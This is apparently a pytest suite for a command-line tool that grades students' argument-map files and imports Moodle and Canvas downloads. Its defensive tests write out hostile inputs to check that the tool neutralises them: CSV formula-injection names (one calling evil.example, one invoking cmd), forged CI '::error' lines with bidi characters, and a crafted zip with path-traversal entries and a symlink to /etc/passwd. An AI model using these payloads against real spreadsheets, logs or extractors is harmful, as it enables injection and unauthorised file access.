"""A class's answers graded from the command line: what is graded and what skipped, no mark for a
sheet that cannot be read, the anonymous key, checked overrides, safe CSV cells and names, and the
round trip through Moodle's and Canvas's downloads and gradebooks (issue 27)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from argmap.cli import app
from argmap.exercises.gradebook import safe_cell
from argmap.report import plain

HERE = Path(__file__).parent
BIKES = HERE / "eval" / "bike-lanes"
KEY = BIKES / "key.yaml"
STUDENTS = BIKES / "students"

# Moodle 4.1+ names a student's folder without the trailing underscore; 3.1-4.0 with it.
MOODLE = {
    "amira.yaml": "Amira Haddad_412345_assignsubmission_file",
    "ben.yaml": "Ben Okoro_412346_assignsubmission_file_",
    "finn.yaml": "Finn O'Brien-Walsh_412351_assignsubmission_file",
}
# Canvas: <sortable name run together>[_LATE]_<user id>_<submission id>_<file as uploaded, -1 if resubmitted>
CANVAS = {
    "amira.yaml": "haddadamira_23001_5550001_amira.yaml",
    "ella.yaml": "brooksella_LATE_23002_5550002_ella-1.yaml",
}


def _grade(*args: str) -> tuple[int, str, str]:
    out = CliRunner().invoke(app, ["exercise", "grade", *args])
    return out.exit_code, out.stdout, out.stderr


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _moodle_folder(root: Path) -> Path:
    for file, folder in MOODLE.items():
        (root / folder).mkdir(parents=True)
        shutil.copy(STUDENTS / file, root / folder / file)
    (root / MOODLE["ben.yaml"] / "notes.txt").write_text("ask Ben about his sources\n", encoding="utf-8")
    broken = root / "Dana Lee_412352_assignsubmission_file"
    broken.mkdir()
    (broken / "dana.yaml").write_text("argmap: 1\nnodes: [oops\n", encoding="utf-8")
    online = root / "Chloe Martin_412347_assignsubmission_onlinetext"
    online.mkdir()
    (online / "onlinetext.html").write_text("<p>I could not open the file</p>", encoding="utf-8")
    return root


def _zip(folder: Path, target: Path) -> Path:
    with zipfile.ZipFile(target, "w") as z:
        for f in sorted(folder.rglob("*")):
            if f.is_file():
                z.write(f, f.relative_to(folder).as_posix())
    return target


# --------------------------------------------------------------------------- the class


def test_only_answer_files_are_graded_and_the_rest_is_listed_as_skipped(tmp_path: Path) -> None:
    folder = tmp_path / "class"
    shutil.copytree(STUDENTS, folder)
    (folder / "notes.txt").write_text("Finn was absent on Tuesday.\nCheck Gus's quotes.\n", encoding="utf-8")
    (folder / "photo.jpg").write_bytes(b"\xff\xd8\xff")
    code, out, _ = _grade(str(folder), "--key", str(KEY), "-f", "json")
    doc = json.loads(out)
    assert code == 1 and doc["summary"]["count"] == 7
    assert sorted(doc["skipped"]) == [
        f"{folder / 'notes.txt'}: not a map (no `nodes:`)",
        f"{folder / 'photo.jpg'}: not an answer file (.jpg)",
    ]
    plain_mean = json.loads(_grade(str(STUDENTS), "--key", str(KEY), "-f", "json")[1])["summary"]["mean"]
    assert doc["summary"]["mean"] == plain_mean
    code, text, _ = _grade(str(folder), "--key", str(KEY))
    lines = text.splitlines()
    assert "Skipped 2 files (not answers):" in lines and "    not a map (no `nodes:`)" in lines
    assert max(len(line) for line in lines) <= 80


def test_a_sheet_that_cannot_be_graded_gets_no_mark_and_says_why(tmp_path: Path) -> None:
    broken = tmp_path / "zoe.yaml"
    broken.write_text("argmap: 1\nnodes: [oops\n", encoding="utf-8")
    code, out, _ = _grade(str(STUDENTS / "amira.yaml"), str(broken), "--key", str(KEY), "-f", "csv")
    rows = {r["file"]: r for r in _csv(out)}
    zoe = rows[str(broken)]
    assert code == 1 and zoe["percent"] == "" and zoe["status"] == "not graded"
    assert zoe["why"].startswith("not graded: ") and zoe["thesis"] == ""
    doc = json.loads(_grade(str(STUDENTS / "amira.yaml"), str(broken), "--key", str(KEY), "-f", "json")[1])
    assert [s["percent"] for s in doc["students"]] == [91.8, None]
    assert doc["summary"]["mean"] == 91.8 and doc["summary"]["graded"] == 1
    text = _grade(str(STUDENTS / "amira.yaml"), str(broken), "--key", str(KEY))[1]
    assert "zoe  no mark  (not graded)" in text and "Class: 2 students (1 not graded), mean 91.8%" in text


def test_anonymise_writes_the_key_to_names_for_the_teacher(tmp_path: Path) -> None:
    report = tmp_path / "out" / "grades.csv"
    code, _, err = _grade(str(STUDENTS), "--key", str(KEY), "-f", "csv", "--anonymise", "-o", str(report))
    names = tmp_path / "out" / "grades-names.csv"
    assert code == 1 and f"the key from numbers to names is in {names}" in err
    grades = report.read_text(encoding="utf-8")
    assert "Amira" not in grades and "amira" not in grades
    key = _csv(names.read_text(encoding="utf-8"))
    assert key[0] == {"number": "Student 1", "student": "Amira Haddad", "file": str(STUDENTS / "amira.yaml")}
    assert [r["student"] for r in _csv(grades)] == [k["number"] for k in key]
    # the same class again: the same key, so it may stay; another class's key is never replaced
    assert _grade(str(STUDENTS), "--key", str(KEY), "-f", "csv", "--anonymise", "-o", str(report))[0] == 1
    code, _, err = _grade(str(STUDENTS / "ben.yaml"), "--key", str(KEY), "--anonymise", "-o", str(report))
    assert code == 2 and "a different names key is already there" in err
    assert _csv(names.read_text(encoding="utf-8")) == key


def test_items_counts_agree_with_the_students_results() -> None:
    doc = json.loads(_grade(str(STUDENTS), "--key", str(KEY), "-f", "json")[1])
    table = {r["item"]: r for r in _csv(_grade(str(STUDENTS), "--key", str(KEY), "-f", "items")[1])}
    assert table and {i["id"] for i in doc["items"]} == set(table)
    for item in doc["items"]:
        asked = [s for s in doc["students"] if item["id"] in s["items"]]
        assert item["students"] == sum(s["items"][item["id"]] for s in asked)
        assert item["of"] == len(asked) == int(table[item["id"]]["of"])
        assert int(table[item["id"]]["students"]) == item["students"]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("finnn.yaml:\n  PARKING: none\n", ":1: 'finnn.yaml' is none of the answer files graded"),
        ("finn.yaml:\n  PARKNIG: none\n", ":2: finn.yaml has no node 'PARKNIG'; write an id from it"),
        ("finn.yaml:\n  PARKING: C_shopers\n", ":2: 'C_shopers' is not an id in the key"),
        ("finn.yaml:\n  PARKING: [C_shoppers, C_objection]\n", ":2: 'a list' is not a key id; write one id or none"),
        ("finn.yaml:\n  PARKING: true\n", ":2: 'true' is not a key id"),
        ("finn.yaml: [PARKING]\n", ":1: overrides map a student file to {student id: key id or none}"),
    ],
)
def test_overrides_naming_what_is_not_there_are_refused_with_the_line(tmp_path: Path, text: str, message: str) -> None:
    overrides = tmp_path / "overrides.yaml"
    overrides.write_text(text, encoding="utf-8")
    code, out, err = _grade(str(STUDENTS / "finn.yaml"), "--key", str(KEY), "--overrides", str(overrides))
    assert (code, out) == (2, "")
    assert err.startswith(f"argmap: {overrides}{message}")
    assert len(err.strip().splitlines()) == 1


def test_overrides_that_name_real_ids_still_apply(tmp_path: Path) -> None:
    overrides = tmp_path / "overrides.yaml"
    overrides.write_text("finn:\n  PARKING: none\n", encoding="utf-8")
    before = json.loads(_grade(str(STUDENTS / "finn.yaml"), "--key", str(KEY), "-f", "json")[1])
    after = json.loads(
        _grade(str(STUDENTS / "finn.yaml"), "--key", str(KEY), "--overrides", str(overrides), "-f", "json")[1]
    )
    assert after["students"][0]["percent"] < before["students"][0]["percent"]


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path, name: str) -> None:
    student = tmp_path / "x.yaml"
    text = (STUDENTS / "amira.yaml").read_text(encoding="utf-8")
    student.write_text(text.replace("authors: [Amira Haddad]", f"authors: [{json.dumps(name)}]"), encoding="utf-8")
    out = _grade(str(student), "--key", str(KEY), "-f", "csv")[1]
    cell = _csv(out)[0]["student"]
    assert cell == safe_cell(plain(name)) and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text(max_size=30))
def test_safe_cell_never_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == text or cell == "'" + text


def test_names_lose_control_bidi_and_zero_width_characters(tmp_path: Path) -> None:
    student = tmp_path / "x.yaml"
    text = (STUDENTS / "amira.yaml").read_text(encoding="utf-8")
    forged = "Amira\\n::error file=x::forged\\u202eahdaH\\u200b"
    student.write_text(text.replace("authors: [Amira Haddad]", f'authors: ["{forged}"]'), encoding="utf-8")
    out = _grade(str(student), str(STUDENTS / "ben.yaml"), "--key", str(KEY))[1]
    assert not any(line.startswith("::error") for line in out.splitlines())
    assert "Amira ::error file=x::forgedahdaH  91.8%" in out
    assert not any(c in out for c in "\u202e\u200b")
    doc = json.loads(_grade(str(student), "--key", str(KEY), "-f", "json")[1])
    assert doc["students"][0]["name"] == "Amira ::error file=x::forgedahdaH"


# --------------------------------------------------------------------------- Moodle and Canvas


def test_moodle_download_gives_the_grading_worksheet_and_feedback_zip(tmp_path: Path) -> None:
    folder = _moodle_folder(tmp_path / "download")
    download = _zip(folder, tmp_path / "BIO101-Bike lanes-12345.zip")
    feedback = tmp_path / "feedback.zip"
    code, out, err = _grade(
        str(download), "--key", str(KEY), "-f", "moodle", "--points", "20", "--feedback-zip", str(feedback)
    )
    assert code == 1  # finn's map has validation errors: graded in part
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == [
        "Identifier",
        "Full name",
        "Email address",
        "Status",
        "Grade",
        "Maximum grade",
        "Grade can be changed",
        "Last modified (submission)",
        "Last modified (grade)",
        "Feedback comments",
    ]
    by_id = {r[0]: r for r in rows[1:]}
    assert sorted(by_id) == ["Participant 412345", "Participant 412346", "Participant 412351", "Participant 412352"]
    dana = by_id["Participant 412352"]
    assert dana[4] == "" and dana[9].startswith("Your answers could not be marked: line 2: YAML syntax error")
    assert str(download) not in dana[9] and "not graded" not in dana[9]
    amira = by_id["Participant 412345"]
    assert amira[1] == "Amira Haddad" and amira[4] == "18.36" and amira[5] == "20"
    assert amira[9].startswith("Mark: 91.8%<br>- ")
    assert by_id["Participant 412351"][1] == "Finn O'Brien-Walsh"
    assert f"{download}:{MOODLE['ben.yaml']}/notes.txt: not a map" in err
    assert "onlinetext.html: not an answer file (.html)" in err
    with zipfile.ZipFile(feedback) as z:
        assert sorted(z.namelist()) == [
            "Amira Haddad_412345_assignsubmission_file_/feedback.txt",
            "Ben Okoro_412346_assignsubmission_file_/feedback.txt",
            "Dana Lee_412352_assignsubmission_file_/feedback.txt",
            "Finn O'Brien-Walsh_412351_assignsubmission_file_/feedback.txt",
        ]
        assert "Mark: 91.8%" in z.read("Amira Haddad_412345_assignsubmission_file_/feedback.txt").decode()
    # the unpacked folder grades the same as the zip
    unpacked = _grade(str(folder), "--key", str(KEY), "-f", "moodle", "--points", "20")[1]
    assert [r[:5] for r in csv.reader(io.StringIO(unpacked))] == [r[:5] for r in rows]


def test_canvas_download_gives_the_gradebook_import(tmp_path: Path) -> None:
    folder = tmp_path / "submissions"
    folder.mkdir()
    for file, name in CANVAS.items():
        shutil.copy(STUDENTS / file, folder / name)
    (folder / "brooksella_LATE_23002_5550002_scan.pdf").write_bytes(b"%PDF-1.4\n")
    download = _zip(folder, tmp_path / "submissions.zip")
    code, out, err = _grade(
        str(download), "--key", str(KEY), "-f", "canvas", "--assignment", "Bike lanes map (4711)", "--points", "10"
    )
    assert code == 0, err
    assert out.splitlines() == [
        "Student,ID,SIS User ID,SIS Login ID,Section,Bike lanes map (4711)",
        "    Points Possible,,,,,10",
        "Ella Brooks,23002,,,,0.5",  # 5%: her thesis is the headline (issue 26)
        "Amira Haddad,23001,,,,9.18",
    ]
    assert "scan.pdf: not an answer file (.pdf)" in err


def _without_utf8_flag(zip_path: Path) -> None:
    """Clear the UTF-8 flag of every entry, leaving the names' UTF-8 bytes: a zip as Info-ZIP's `zip`
    on Linux or PHP writes it (Python reads such names as code page 437)."""
    data = bytearray(zip_path.read_bytes())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            data[start + flags_at + 1] &= 0xF7  # bit 11 of the little-endian flags: 0x08 of their second byte
            start = data.find(signature, start + 4)
    zip_path.write_bytes(bytes(data))


def test_names_in_a_zip_without_the_utf8_flag_are_read_as_utf8(tmp_path: Path) -> None:
    folder = tmp_path / "download"
    (folder / "Zoë Çelik_412348_assignsubmission_file").mkdir(parents=True)
    shutil.copy(STUDENTS / "ella.yaml", folder / "Zoë Çelik_412348_assignsubmission_file" / "ella.yaml")
    download = _zip(folder, tmp_path / "class.zip")
    _without_utf8_flag(download)
    with zipfile.ZipFile(download) as z:
        assert z.namelist() == ["Zo\u251c\u00bd \u251c\u00e7elik_412348_assignsubmission_file/ella.yaml"]  # cp437
    code, out, err = _grade(str(download), "--key", str(KEY), "-f", "moodle", "--points", "20")
    rows = list(csv.reader(io.StringIO(out)))
    assert code == 0, err
    assert rows[1][:2] == ["Participant 412348", "Zoë Çelik"]


def test_a_gradebook_for_a_platform_needs_its_download(tmp_path: Path) -> None:
    code, out, err = _grade(str(STUDENTS / "amira.yaml"), "--key", str(KEY), "-f", "moodle")
    assert (code, out) == (2, "") and "amira.yaml: not from Moodle's Download all submissions" in err
    code, _, err = _grade(str(STUDENTS), "--key", str(KEY), "-f", "canvas", "--anonymise")
    assert code == 2 and "--anonymise hides who is who" in err


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_hostile_zip_is_unpacked_only_where_it_belongs(tmp_path: Path) -> None:
    import stat

    download = tmp_path / "class.zip"
    amira = (STUDENTS / "amira.yaml").read_bytes()
    with zipfile.ZipFile(download, "w") as z:
        z.writestr("Amira Haddad_412345_assignsubmission_file/amira.yaml", amira)
        z.writestr("Amira Haddad_412345_assignsubmission_file/AMIRA.yaml", amira)
        z.writestr("Amira Haddad_412345_assignsubmission_file/amira-v2.yaml", amira)
        z.writestr("Amira Haddad_412345_assignsubmission_file/amira.yaml", b"argmap: 1\n")
        z.writestr("../../escaped.yaml", amira)
        z.writestr("/abs/escaped.yaml", amira)
        link = zipfile.ZipInfo("Ben Okoro_412346_assignsubmission_file/link.yaml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(link, "/etc/passwd")
        z.writestr("Ben Okoro_412346_assignsubmission_file/big.yaml", b"#" * (5 * 1024 * 1024))
        z.writestr("Ben Okoro_412346_assignsubmission_file/x\u202e\n::error file=x::forged.txt", b"notes")
    text = _grade(str(download), "--key", str(KEY))[1] + _grade(str(download), "--key", str(KEY), "-f", "csv")[2]
    assert "\u202e" not in text and not any(line.startswith("::error") for line in text.splitlines())
    code, out, _ = _grade(str(download), "--key", str(KEY), "-f", "json")
    doc = json.loads(out)
    assert code == 0
    assert [s["percent"] for s in doc["students"]] == [91.8]
    why = {line.split(": ", 1)[0].rsplit(":", 1)[-1]: line.split(": ", 1)[1] for line in doc["skipped"]}
    assert why["../../escaped.yaml"].startswith("a path outside the download")
    assert why["/abs/escaped.yaml"].startswith("a path outside the download")
    assert why["Ben Okoro_412346_assignsubmission_file/link.yaml"] == "a link, not a file; not unpacked"
    assert why["Ben Okoro_412346_assignsubmission_file/big.yaml"].endswith(
        "too large for an answer sheet; not unpacked"
    )
    assert "a second entry of the same name; only the first is used" in why.values()
    assert any("a second answer file of Amira Haddad (412345)" in w for w in why.values())
    assert not (tmp_path / "escaped.yaml").exists() and not Path("/abs/escaped.yaml").exists()


def test_anonymise_to_the_terminal_writes_the_key_in_the_current_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = _grade(str(STUDENTS / "amira.yaml"), "--key", str(KEY), "--anonymise")
    assert code == 0 and "Student 1  91.8%" in out and "Amira" not in out
    assert "the key from numbers to names is in class-names.csv" in err
    assert _csv((tmp_path / "class-names.csv").read_text(encoding="utf-8"))[0]["student"] == "Amira Haddad"


def test_a_find_gaps_folder_takes_lists_in_words_and_skips_notes(tmp_path: Path) -> None:
    key = HERE.parent / "claims" / "north-korea-seeking-new-friends.yaml"
    folder = tmp_path / "gaps"
    folder.mkdir()
    (folder / "noor.txt").write_text("C3 has no support\nR17 rests on silence\n", encoding="utf-8")
    (folder / "sam.txt").write_text("- ST102 C3\n", encoding="utf-8")
    (folder / "todo.txt").write_text("Finn was absent on Tuesday.\nCheck Gus's quotes.\n", encoding="utf-8")
    doc = json.loads(_grade(str(folder), "--key", str(key), "--kind", "find-gaps", "-f", "json")[1])
    assert [Path(s["file"]).name for s in doc["students"]] == ["noor.txt", "sam.txt"]
    assert doc["skipped"] == [
        f"{folder / 'todo.txt'}: not a find-gaps answer sheet (no `exercise: find-gaps` line, "
        "nothing shaped like its answers)"
    ]


def test_the_error_that_stops_a_map_being_graded_gives_its_line(tmp_path: Path) -> None:
    """The student has to find the mistake: the report names its line, as `argmap check` does."""
    broken = tmp_path / "ivo.yaml"
    broken.write_text(
        "argmap: 1\ntitle: my map\nnodes:\n- id: T\n  kind: thesis\n  text: New partners: not China\n",
        encoding="utf-8",
    )
    partial = tmp_path / "una.yaml"
    partial.write_text(
        (STUDENTS / "amira.yaml").read_text(encoding="utf-8").replace("kind: supports", "kind: suports", 1),
        encoding="utf-8",
    )
    doc = json.loads(_grade(str(broken), str(partial), "--key", str(KEY), "-f", "json")[1])
    ivo, una = doc["students"]
    assert ivo["reason"].startswith("not graded: line 6: YAML syntax error: the value of 'text' holds ': '")
    line = next(i for i, t in enumerate(partial.read_text(encoding="utf-8").splitlines(), 1) if "suports" in t)
    assert una["status"] == "partial"
    assert any(f.startswith(f"your map has 1 error (first: line {line}: ") for f in una["feedback"]), una["feedback"]
